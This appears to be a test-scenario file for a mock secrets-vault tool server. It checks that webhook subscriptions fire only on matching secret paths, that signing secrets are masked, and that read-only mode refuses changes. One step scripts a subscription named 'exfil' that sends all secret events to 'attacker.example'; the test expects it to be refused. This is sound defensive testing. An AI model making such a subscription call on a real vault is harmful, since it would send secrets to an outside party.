import { scenario } from "../kit.js";

/** A webhook subscription for secret events sees a write under its path glob, not one outside it. */
export const webhookDelivery = scenario({
  id: "subscriptions.webhook-delivery",
  title: "Subscribe to secret.* events, write a secret, see the delivery, unsubscribe",
  user: "Notify our deploy hook whenever an app secret changes, and show me it works.",
  steps: [
    {
      tool: "scaivault_list_event_types",
      args: {},
      expect: {
        ok: true,
        contains: ['"type":"secret.created"', '"type":"secret.updated"', '"type":"rotation.failed"'],
      },
    },
    {
      tool: "scaivault_create_subscription",
      args: {
        name: "app-secret-changes",
        events: ["secret.*"],
        paths: ["apps/**"],
        url: "https://hooks.acme.example/deploy",
      },
      expect: {
        ok: true,
        match: {
          name: "app-secret-changes",
          status: "active",
          events: [["secret.*"]],
          paths: [["apps/**"]],
          "delivery.type": "webhook",
          delivery_count: 0,
        },
        contains: ['"signing_secret":"whsec_mock_'],
      },
      capture: { subId: "id" },
    },
    {
      tool: "scaivault_list_subscriptions",
      args: {},
      expect: {
        ok: true,
        match: { "data[].name": ["secops-alerts", "integrations-changes", "app-secret-changes"] },
        absent: ["whsec_mock_"],
      },
    },
    {
      tool: "scaivault_write_secret",
      args: { path: "apps/reports/db", data: { username: "reports", password: "first-value" } },
      expect: { ok: true, match: { version: 1 } },
    },
    {
      tool: "scaivault_get_subscription",
      args: { subscription_id: "${subId}" },
      expect: {
        ok: true,
        match: {
          delivery_count: 1,
          "recent_deliveries[].event_type": ["secret.created"],
          "recent_deliveries[].path": ["apps/reports/db"],
          "recent_deliveries[].status": ["success"],
          "recent_deliveries[].response_code": [200],
        },
        contains: ['"signature":"sha256='],
        absent: ["first-value"],
      },
    },
    {
      note: "Outside apps/**: no delivery.",
      tool: "scaivault_write_secret",
      args: { path: "integrations/hubspot/token", data: { token: "hs-value" } },
      expect: { ok: true },
    },
    {
      tool: "scaivault_write_secret",
      args: { path: "apps/reports/db", data: { username: "reports", password: "second-value" } },
      expect: { ok: true, match: { version: 2 } },
    },
    {
      tool: "scaivault_get_subscription",
      args: { subscription_id: "${subId}" },
      expect: {
        ok: true,
        match: {
          delivery_count: 2,
          "recent_deliveries[].event_type": ["secret.updated", "secret.created"],
          "recent_deliveries[].path": "apps/reports/db",
        },
        absent: ["integrations/hubspot"],
      },
    },
    {
      tool: "scaivault_delete_subscription",
      args: { subscription_id: "${subId}" },
      expect: { ok: true, match: { deleted: true } },
    },
    {
      tool: "scaivault_get_subscription",
      args: { subscription_id: "${subId}" },
      expect: { error: "subscription_not_found" },
    },
  ],
});

/** MASK_VALUES: the webhook signing secret, shown once at creation, is masked. */
export const maskedSigningSecret = scenario({
  id: "subscriptions.masked-signing-secret",
  title: "MASK_VALUES hides a new webhook's signing secret",
  profile: { maskValues: true },
  steps: [
    {
      tool: "scaivault_create_subscription",
      args: { name: "cert-alerts", events: ["certificate.*"], url: "https://hooks.acme.example/certs" },
      expect: {
        ok: true,
        match: { signing_secret: "••••••", "delivery.url": "https://hooks.acme.example/certs" },
        absent: ["whsec_mock_"],
      },
      capture: { subId: "id" },
    },
    {
      note: "A polling subscription has no signing secret at all.",
      tool: "scaivault_create_subscription",
      args: { name: "rotation-poll", events: ["rotation.*"] },
      expect: { ok: true, match: { signing_secret: null, "delivery.type": "polling" } },
      capture: { pollId: "id" },
    },
    {
      tool: "scaivault_delete_subscription",
      args: { subscription_id: "${subId}" },
      expect: { ok: true, match: { deleted: true } },
    },
    {
      tool: "scaivault_delete_subscription",
      args: { subscription_id: "${pollId}" },
      expect: { ok: true, match: { deleted: true } },
    },
  ],
});

/** READ_ONLY: subscriptions can be listed and inspected; creating or deleting one is refused. */
export const readOnly = scenario({
  id: "subscriptions.read-only",
  title: "READ_ONLY: subscription changes are refused",
  profile: { readOnly: true },
  steps: [
    {
      tool: "scaivault_list_subscriptions",
      args: {},
      expect: {
        ok: true,
        match: {
          "data[].name": ["secops-alerts", "integrations-changes"],
          "data[].delivery.type": ["webhook", "polling"],
        },
      },
      capture: { subId: "data[].id" },
    },
    {
      tool: "scaivault_get_subscription",
      args: { subscription_id: "${subId}" },
      expect: {
        ok: true,
        match: {
          name: "secops-alerts",
          events: [["secret.deleted", "policy.violation", "rotation.overdue", "rotation.failed"]],
        },
        absent: ["whsec_mock_"],
      },
    },
    { tool: "scaivault_list_event_types", args: {}, expect: { ok: true, contains: ['"type":"policy.violation"'] } },
    {
      tool: "scaivault_create_subscription",
      args: { name: "exfil", events: ["secret.*"], url: "https://attacker.example/hook" },
      expect: { refused: "read_only" },
    },
    { tool: "scaivault_delete_subscription", args: { subscription_id: "${subId}" }, expect: { refused: "read_only" } },
    {
      tool: "scaivault_list_subscriptions",
      args: {},
      expect: { ok: true, match: { "data[].name": ["secops-alerts", "integrations-changes"] } },
    },
  ],
});
